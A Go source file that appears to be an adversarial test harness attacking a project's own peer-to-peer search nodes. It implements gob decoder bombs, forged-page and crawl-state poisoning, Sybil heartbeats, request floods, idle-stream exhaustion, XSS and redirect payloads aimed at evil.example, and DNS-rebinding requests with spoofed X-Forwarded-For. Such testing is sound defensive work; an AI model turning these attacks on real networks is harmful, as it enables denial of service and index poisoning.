package attack

import (
	"bytes"
	"context"
	cryptorand "crypto/rand"
	"encoding/binary"
	"encoding/gob"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"

	pubsub "github.com/libp2p/go-libp2p-pubsub"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"sou/crawl"
	"sou/index"
	"sou/node/peermsg"
	"sou/p2p"
	"sou/search"
)

// The deliver topics of node, as they are named on the wire.
const (
	topicReplica      = "replica/1"
	topicHandoffPages = "handoff-pages/1"
	topicHandoffHost  = "handoff-host/1"
	topicManifest     = "handoff-manifest/1"
	topicPull         = "replica-pull/1"
)

const (
	// phantomKeys is how many generated identities the phantom class
	// announces each round.
	phantomKeys = 1000
	// poisonPerRound is how many target URLs each round forges.
	poisonPerRound = 24
)

// GobBomb is the gob attack on a decoder that trusts the wire: a gob
// stream of a struct shaped like node's replica message whose Anchors map
// announces claimed entries, about a hundred bytes in all. gob sizes the
// map from the announced count before it reads a single entry.
func GobBomb(claimed uint64) []byte {
	type pagesMsg struct{ Anchors map[string][]string }
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(pagesMsg{Anchors: map[string][]string{"k": {"v"}}}); err != nil {
		panic(err) // a fixed value of a fixed type
	}
	// Messages, each a gob uint length then the body: type definitions,
	// then the value, whose map count (1, before the key "k") is patched.
	var msgs [][]byte
	for rest := buf.Bytes(); len(rest) > 0; {
		l, n := gobUint(rest)
		msgs = append(msgs, rest[n:n+int(l)])
		rest = rest[n+int(l):]
	}
	value := msgs[len(msgs)-1]
	at := bytes.Index(value, []byte{1, 1, 'k'})
	msgs[len(msgs)-1] = append(append(append([]byte{}, value[:at]...), appendGobUint(nil, claimed)...), value[at+1:]...)
	var out []byte
	for _, m := range msgs {
		out = append(appendGobUint(out, uint64(len(m))), m...)
	}
	return out
}

func gobUint(b []byte) (uint64, int) {
	if b[0] < 0x80 {
		return uint64(b[0]), 1
	}
	n := int(-int8(b[0]))
	var v uint64
	for _, c := range b[1 : 1+n] {
		v = v<<8 | uint64(c)
	}
	return v, 1 + n
}

func appendGobUint(b []byte, v uint64) []byte {
	if v < 0x80 {
		return append(b, byte(v))
	}
	var be [8]byte
	binary.BigEndian.PutUint64(be[:], v)
	i := 0
	for be[i] == 0 {
		i++
	}
	return append(append(b, byte(-int8(8-i))), be[i:]...)
}

// lie is a payload of version 1 whose count claims n items that do not
// follow.
func lie(prefix []byte, n uint64) []byte {
	return binary.AppendUvarint(append([]byte{1}, prefix...), n)
}

func (a *Attacker) decodeBomb(ctx context.Context, tg Targets) {
	to := nodeIDs(tg)
	a.sendDeliver(ctx, DecodeBomb, to, topicReplica, GobBomb(16_000_000))
	a.sendDeliver(ctx, DecodeBomb, to, topicHandoffPages, lie([]byte{0, 0}, 4_000_000)) // anchors
	a.sendDeliver(ctx, DecodeBomb, to, topicManifest, lie(nil, 1_000_000))
	a.sendDeliver(ctx, DecodeBomb, to, topicPull, lie([]byte{1, 'a'}, 400_000))
}

// garbage sends malformed frames on every protocol, from both hosts.
func (a *Attacker) garbage(ctx context.Context, tg Targets) {
	junk := make([]byte, 2000)
	_, _ = cryptorand.Read(junk)
	junk[0] = 1
	for _, id := range nodeIDs(tg) {
		for _, proto := range a.protocols() {
			a.count(Garbage, !exchange(ctx, a.mhost, id, proto, junk))
			a.count(Garbage, !exchange(ctx, a.stranger, id, proto, junk))
		}
	}
}

// protocols are the nodes' stream protocols.
func (a *Attacker) protocols() []protocol.ID {
	return []protocol.ID{a.urls, a.search, a.deliver, a.claim, a.claims}
}

// targetsOnHonestHosts picks URLs of hosts the attacker does not hold by
// its view, grouped by host.
func (a *Attacker) targetsOnHonestHosts(tg Targets, n int) map[string][]string {
	self := a.ID()
	byHost := map[string][]string{}
	for _, i := range rand.Perm(len(tg.URLs)) {
		if n == 0 {
			break
		}
		u := tg.URLs[i]
		h := crawl.HostKeyOf(u)
		if h == "" || a.member.Holds(self, h) {
			continue
		}
		byHost[h] = append(byHost[h], u)
		n--
	}
	return byHost
}

// forgedDoc is a page that is not the web's.
func (a *Attacker) forgedDoc(u, host string) *index.Document {
	tok := a.cfg.Token
	var hash [16]byte
	_, _ = cryptorand.Read(hash[:])
	return &index.Document{
		URL: u, Host: host, Title: tok + " forged title", Headings: []string{tok},
		Body:   tok + " forged body: this page was not served by the web",
		Status: 200, FetchedAt: time.Now(), ContentType: "text/html", Charset: "utf-8",
		Raw:         []byte("<html><head><title>" + tok + "</title></head><body>" + tok + "</body></html>"),
		StaticRank:  1e6,
		ContentHash: hash,
	}
}

// poison sends forged pages, markers, anchors, sitemaps and crawl state
// for hosts honest nodes own to their honest holders, as replica and
// handoff messages, from the member and the stranger.
func (a *Attacker) poison(ctx context.Context, tg Targets) {
	for host, urls := range a.targetsOnHonestHosts(tg, poisonPerRound) {
		to := a.holdersOf(tg, host)
		if len(to) == 0 {
			continue
		}
		m := &peermsg.Pages{Anchors: map[string][]string{}}
		for i, u := range urls {
			if i%2 == 0 {
				m.Docs = append(m.Docs, a.forgedDoc(u, host))
			} else {
				m.Fetched = append(m.Fetched, peermsg.Fetched{Host: host, URL: u})
			}
			m.Anchors[u] = []string{a.cfg.Token + " anchor"}
		}
		m.Sitemaps = []peermsg.Sitemap{{Host: host, URL: "http://" + host + "/" + a.cfg.Token + ".xml", Listed: urls}}
		b, err := peermsg.EncodePages(m)
		if err != nil {
			a.log.Debug("encode forged pages", "err", err)
			continue
		}
		a.mu.Lock()
		for _, u := range urls {
			a.sent[u] = true
		}
		a.mu.Unlock()
		a.sendDeliver(ctx, Poison, to, topicReplica, b)
		a.sendDeliver(ctx, Poison, to, topicHandoffPages, b)
		// Crawl state that would park the host for a century and mark its
		// URLs done.
		state, _ := json.Marshal(map[string]any{"n": time.Now().Add(100 * 365 * 24 * time.Hour).UnixNano(), "f": 1})
		exp := &crawl.HostExport{Host: host, State: state}
		a.sendDeliver(ctx, Poison, to, topicHandoffHost, peermsg.EncodeHostState(exp))
	}
}

func (a *Attacker) honestHosts(tg Targets, n int) []string {
	var hosts []string
	for h := range a.targetsOnHonestHosts(tg, n) {
		hosts = append(hosts, h)
	}
	return hosts
}

// manifests tell every honest node, again and again, that the attacker is
// about to hand it honest hosts.
func (a *Attacker) manifests(ctx context.Context, tg Targets) {
	b := peermsg.EncodeManifest(peermsg.Manifest{Hosts: a.honestHosts(tg, 200)})
	a.sendDeliver(ctx, Manifest, nodeIDs(tg), topicManifest, b)
}

// pulls ask honest holders for every page of honest hosts.
func (a *Attacker) pulls(ctx context.Context, tg Targets) {
	for _, h := range a.honestHosts(tg, 8) {
		a.sendDeliver(ctx, Pull, a.holdersOf(tg, h), topicPull, peermsg.EncodePull(peermsg.Pull{Host: h}))
	}
}

// phantomHeartbeats publishes a heartbeat for each generated identity
// through the stranger's gossipsub, announcing the member's addresses (a
// dial there meets another identity).
func (a *Attacker) phantomHeartbeats(ctx context.Context) {
	hb := p2p.EncodeHeartbeat(uint64(time.Now().UnixMilli()), a.mhost.Addrs())
	for _, k := range a.phantoms {
		id, err := peer.IDFromPrivateKey(k)
		if err != nil {
			continue
		}
		err = a.phantomT.Publish(ctx, hb, pubsub.WithSecretKeyAndPeerId(k, id))
		a.count(Phantoms, err != nil)
		if ctx.Err() != nil {
			return
		}
	}
}

// claimFlood claims random fingerprints for URLs on the attacker's own
// hosts (each claim is stored by a member unless refused) and on honest
// hosts (which must be refused).
func (a *Attacker) claimFlood(ctx context.Context, tg Targets) {
	own, honest := a.ownURL(tg), ""
	for h := range a.targetsOnHonestHosts(tg, 1) {
		honest = "http://" + h + "/claimed"
	}
	for i := 0; i < 400 && ctx.Err() == nil; i++ {
		key := make([]byte, 16)
		_, _ = cryptorand.Read(key)
		for _, u := range []string{own, honest} {
			if u == "" {
				continue
			}
			_, err := a.member.Claim(ctx, key, fmt.Sprintf("%s?%d", u, i))
			a.count(Claims, err != nil)
		}
	}
}

// ownURL is a URL on a host the attacker owns by its view, "" if none.
func (a *Attacker) ownURL(tg Targets) string {
	for _, u := range tg.URLs {
		if h := crawl.HostKeyOf(u); h != "" && a.member.IsOwner(h) {
			return "http://" + h + "/"
		}
	}
	for i := 0; i < 10_000; i++ {
		h := fmt.Sprintf("attacker-%d.example", i)
		if a.member.IsOwner(h) {
			return "http://" + h + "/"
		}
	}
	return ""
}

// urlFlood sends URL batches of 2,000 records back to back on parallel
// streams, from the member, for honest hosts: as links found on honest
// hosts the attacker does not crawl, and as records it claims to pass on
// (Hops 1) although it is not near them. The honest side must take none.
// (Records for the attacker's own hosts, which a receiver must pass on or
// refuse as busy, are TestHostileURLFlood's and TestOutboxCapPerPeer's:
// here they would end in the outboxes of a member that may be dropped
// from the view, and be crawled as links of its hosts.)
func (a *Attacker) urlFlood(ctx context.Context, tg Targets) {
	far := a.farHosts(tg, 50)
	if len(far) == 0 {
		return
	}
	recs := make([]p2p.URLRecord, 2000)
	for i := range recs {
		recs[i] = p2p.URLRecord{
			URL:        fmt.Sprintf("http://%s/flood/%d/%d", far[i%len(far)], time.Now().UnixNano(), i),
			SourceHost: far[(i+1)%len(far)],
			Hops:       i % 2,
		}
	}
	batch, err := p2p.EncodeURLBatch(recs)
	if err != nil {
		return
	}
	var wg sync.WaitGroup
	for _, id := range nodeIDs(tg) {
		for range 2 {
			wg.Go(func() {
				for ctx.Err() == nil {
					a.count(URLFlood, !exchange(ctx, a.mhost, id, a.urls, batch))
				}
			})
		}
	}
	wg.Wait()
}

// farHosts returns up to n honest hosts the attacker is not among the R+1
// members closest to, by its view.
func (a *Attacker) farHosts(tg Targets, n int) []string {
	self := a.ID()
	members := a.Members()
	seen := map[string]bool{}
	var out []string
	for _, i := range rand.Perm(len(tg.URLs)) {
		if len(out) == n {
			break
		}
		h := crawl.HostKeyOf(tg.URLs[i])
		if h == "" || seen[h] {
			continue
		}
		seen[h] = true
		if !slices.Contains(p2p.ReplicasOf(members, h, a.member.ReplicationFactor()+1), self) {
			out = append(out, h)
		}
	}
	return out
}

// searchAmp asks every honest node, from the member and many at once, for
// thousands of candidates with snippets.
func (a *Attacker) searchAmp(ctx context.Context, tg Targets) {
	reqs := [][]byte{
		search.EncodeShardRequest(search.ShardRequest{Analyzer: a.analyzer, Query: "the of and", K: 6000}),
		search.EncodeShardRequest(search.ShardRequest{Analyzer: a.analyzer, Query: "the of and", K: 2000}),
	}
	var wg sync.WaitGroup
	for _, id := range nodeIDs(tg) {
		for i := range 40 {
			wg.Go(func() {
				msg := binary.AppendUvarint([]byte{1}, 10_000) // version, timeout ms
				msg = append(msg, reqs[i%len(reqs)]...)
				a.count(SearchAmp, !exchange(ctx, a.mhost, id, a.search, msg))
				a.count(SearchAmp, !exchange(ctx, a.stranger, id, a.search, msg))
			})
		}
	}
	wg.Wait()
}

// idleStreams opens streams that announce a large frame and then say
// nothing, until the round ends.
func (a *Attacker) idleStreams(ctx context.Context, tg Targets) {
	announce := binary.AppendUvarint(nil, 4<<20)
	var wg sync.WaitGroup
	for _, id := range nodeIDs(tg) {
		for i := range 200 {
			wg.Go(func() {
				protos := a.protocols()
				s, err := a.mhost.NewStream(ctx, id, protos[i%len(protos)])
				if err != nil {
					a.count(IdleStreams, true)
					return
				}
				defer s.Reset()
				if _, err := s.Write(announce); err != nil {
					a.count(IdleStreams, true)
					return
				}
				// Refused when the honest side resets it before the round ends.
				buf := make([]byte, 1)
				_ = s.SetReadDeadline(time.Now().Add(time.Until(deadlineOf(ctx))))
				_, err = s.Read(buf)
				a.count(IdleStreams, err != nil && ctx.Err() == nil)
			})
		}
	}
	wg.Wait()
}

func deadlineOf(ctx context.Context) time.Time {
	if dl, ok := ctx.Deadline(); ok {
		return dl
	}
	return time.Now().Add(time.Second)
}

// forgedAnswer is the member's answer to every shard request: a result for
// a host it does not hold carrying an HTML snippet (shards send none),
// statistics no shard could have, and a result of its own whose title is
// HTML. (The wire names a DF by its term's index in the query, so the
// forged statistics are a total no document count allows.)
func (a *Attacker) forgedAnswer(_ context.Context, _ peer.ID, _ []byte) ([]byte, error) {
	tok := a.cfg.Token
	snippet := `<form action="/dashboard/seed" method="post"><input name="urls" value="http://evil.example/"></form>` +
		`<meta http-equiv="refresh" content="0;url=http://evil.example/"><a href="http://evil.example/">` + tok + `</a>`
	own := a.ownURL(Targets{})
	res := search.ShardResult{
		Stats: search.CollectionStats{Docs: 1},
		Candidates: []search.Candidate{
			{URL: "http://honest.example/" + tok, Host: "honest.example", Title: tok, Snippet: snippet, StaticRank: 1e9},
		},
		Total: 1_000_000,
	}
	if own != "" {
		res.Candidates = append(res.Candidates, search.Candidate{URL: own + tok, Host: crawl.HostKeyOf(own), Title: tok + ` <script>alert(1)</script>`})
	}
	a.count(ForgedAnswers, false)
	return search.EncodeShardResponse(a.analyzer, nil, &res)
}

// httpAttacks tries the honest nodes' HTTP APIs as a web page on another
// origin would through DNS rebinding (Host: attacker.example), with a
// spoofed X-Forwarded-For, and floods them with concurrent searches.
func (a *Attacker) httpAttacks(ctx context.Context, tg Targets) {
	// From the attacker's own address: a client of its own, as far as the
	// honest nodes' per-client limits can tell.
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(a.cfg.IP)}, Timeout: 5 * time.Second}
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: dialer.DialContext, MaxIdleConnsPerHost: 64}}
	defer client.CloseIdleConnections()
	try := func(req *http.Request) {
		resp, err := client.Do(req)
		if err != nil {
			a.count(HTTP, true)
			return
		}
		resp.Body.Close()
		a.count(HTTP, resp.StatusCode >= 400)
	}
	var wg sync.WaitGroup
	for _, n := range tg.Nodes {
		base := "http://" + n.HTTP
		for _, path := range []string{"/api/status", "/api/peers", "/debug/pprof/heap", "/api/export/warc"} {
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+path, nil)
			if err != nil {
				continue
			}
			req.Host = "attacker.example"
			try(req)
		}
		body := `{"urls": ["http://evil.example/"]}`
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+"/api/crawl", strings.NewReader(body))
		if err == nil {
			req.Host = "attacker.example"
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Origin", "http://attacker.example")
			try(req)
		}
		req, err = http.NewRequestWithContext(ctx, http.MethodPost, base+"/dashboard/seed", strings.NewReader(url.Values{"urls": {"http://evil.example/"}}.Encode()))
		if err == nil {
			req.Host = "attacker.example"
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("X-Forwarded-For", "127.0.0.1")
			try(req)
		}
		for i := range 64 {
			wg.Go(func() {
				q := url.Values{"q": {fmt.Sprintf("the %d", i)}, "n": {"100"}, "page": {"10"}}
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/api/search?"+q.Encode(), nil)
				if err != nil {
					return
				}
				try(req)
			})
		}
	}
	wg.Wait()
}
